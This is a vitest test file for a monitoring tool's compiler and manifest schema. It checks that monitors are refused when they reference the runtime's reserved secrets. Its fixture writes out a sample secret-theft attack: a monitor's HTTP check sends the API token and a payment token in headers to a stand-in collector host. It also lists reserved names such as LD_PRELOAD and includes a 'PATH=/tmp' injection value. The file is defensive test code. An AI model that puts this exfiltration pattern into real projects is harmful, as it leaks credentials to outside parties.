import { describe, expect, it } from "vitest";
import { API_TOKEN_SECRET } from "../../runtime/http/api-auth.js";
import { PAGERDUTY_WEBHOOK_SECRET } from "../../runtime/inbound/pagerduty-webhook.js";
import { parseManifest as parseAnyManifest, sealManifest, type Manifest } from "../../sdk/manifest/index.js";
import { RUNTIME_SECRET_NAMES } from "../../sdk/reserved-secrets.js";
import { tempProjects } from "../compiler/temp-project.js";
import { manifestOf, monitorSpec } from "../runtime/support/manifest.js";

/** As the runtime parses an artifact before it starts: with the schema's limits. */
const parseManifest = (json: unknown) => parseAnyManifest(json, { limits: true });

/**
 * A pull request's author declares the runtime's own secrets and sends them to a target they
 * control: the compiler refuses the declaration, and the manifest schema refuses the reference.
 */
const compile = tempProjects();

const CONFIG = `import { config } from "watchkeeper";

export default config({
  name: "exfiltrate",
  secrets: ["WATCHKEEPER_API_TOKEN", "NODE_OPTIONS", "WK_SECRETS_DIR", "PAYMENTS_TOKEN"],
});
`;

const MONITOR = `import { check, monitor, secret } from "watchkeeper";

export const site = monitor({
  id: "site",
  schedule: { every: "1m" },
  check: check.http({ url: "https://collector.example.net/", headers: { authorization: secret("WATCHKEEPER_API_TOKEN"), "x-pay": secret("PAYMENTS_TOKEN") } }),
});
`;

function withHeaderSecret(name: string): Manifest {
  const spec = monitorSpec({ id: "site" });
  if (spec.check.kind !== "http") throw new Error("the support monitor's check is HTTP");
  return manifestOf([{ ...spec, check: { ...spec.check, headers: { authorization: { secret: name } } } }], [name]);
}

describe("the runtime's own secrets", () => {
  it("a monitor that references the runtime's API token does not compile; each reserved declaration is named at the config's `secrets` line", async () => {
    const { result, wrote } = await compile({ "watchkeeper.config.ts": CONFIG, "monitors/site.ts": MONITOR });
    expect(result.ok).toBe(false);
    expect(wrote).toBe(false);
    const declared = result.diagnostics.filter((d) => d.code === "declared-secrets");
    const about = (name: string) => declared.filter((d) => d.message.includes(`"${name}"`));
    for (const name of ["WATCHKEEPER_API_TOKEN", "NODE_OPTIONS", "WK_SECRETS_DIR"]) {
      expect(about(name), name).toHaveLength(1);
      expect(about(name)[0]).toMatchObject({ severity: "warning", file: "watchkeeper.config.ts", line: 5 });
      expect(about(name)[0]!.hint).toContain(`remove "${name}" from \`secrets\``);
    }
    expect(about("WATCHKEEPER_API_TOKEN")[0]!.message).toContain("the runtime's own secret");
    expect(about("PAYMENTS_TOKEN")).toEqual([]);
    // The reference is refused where it is written.
    const reference = result.diagnostics.filter((d) => d.code === "WK3001");
    expect(reference).toHaveLength(1);
    expect(reference[0]).toMatchObject({ file: "monitors/site.ts", line: 6 });
    expect(reference[0]!.message).toContain("the secret WATCHKEEPER_API_TOKEN cannot be used");
  }, 60_000);

  it("declaring the runtime's own secret without referencing it (older projects did) compiles, with a warning", async () => {
    const config = CONFIG.replace(', "NODE_OPTIONS", "WK_SECRETS_DIR"', "");
    const monitor = MONITOR.replace('authorization: secret("WATCHKEEPER_API_TOKEN"), ', "");
    const { result, wrote } = await compile({ "watchkeeper.config.ts": config, "monitors/site.ts": monitor });
    expect(result.ok).toBe(true);
    expect(wrote).toBe(true);
    expect(result.diagnostics.filter((d) => d.code === "declared-secrets")).toMatchObject([{ severity: "warning", line: 5 }]);
  }, 60_000);

  it.each(["WATCHKEEPER_API_TOKEN", "PAGERDUTY_WEBHOOK_SECRET", "WATCHKEEPER_REDIS_URL", "WK_SECRETS_DIR", "NODE_OPTIONS", "NODE_TLS_REJECT_UNAUTHORIZED", "LD_PRELOAD"])(
    "a hand-edited manifest whose check sends the secret %s is refused",
    (name) => {
      const parsed = parseManifest(JSON.parse(JSON.stringify(withHeaderSecret(name))));
      expect(parsed.ok).toBe(false);
      if (!parsed.ok) expect(parsed.reason).toContain(`monitors.0.check.headers.authorization.secret: the secret ${name} cannot be used`);
    },
  );

  it.each(["lower_case", "", "1PASSWORD", "A-B", "A".repeat(129)])("a hand-edited manifest's secret reference %j that is not a variable name is refused", (name) => {
    const parsed = parseManifest(JSON.parse(JSON.stringify(withHeaderSecret(name))));
    expect(parsed.ok).toBe(false);
    if (!parsed.ok) expect(parsed.reason).toContain("expected an environment variable name");
  });

  it("a project's own secret in a header is accepted", () => {
    expect(parseManifest(JSON.parse(JSON.stringify(withHeaderSecret("PAYMENTS_TOKEN")))).ok).toBe(true);
  });

  it("a declared name that is not a variable name is refused by the schema too", () => {
    const { hash: _h, ...rest } = manifestOf([monitorSpec({ id: "site" })]);
    const parsed = parseManifest(JSON.parse(JSON.stringify(sealManifest({ ...rest, secrets: ["PATH=/tmp"] }))));
    expect(parsed.ok).toBe(false);
  });

  it("the reserved names include every secret the runtime reads for itself", () => {
    expect(RUNTIME_SECRET_NAMES).toContain(API_TOKEN_SECRET);
    expect(RUNTIME_SECRET_NAMES).toContain(PAGERDUTY_WEBHOOK_SECRET);
  });
});
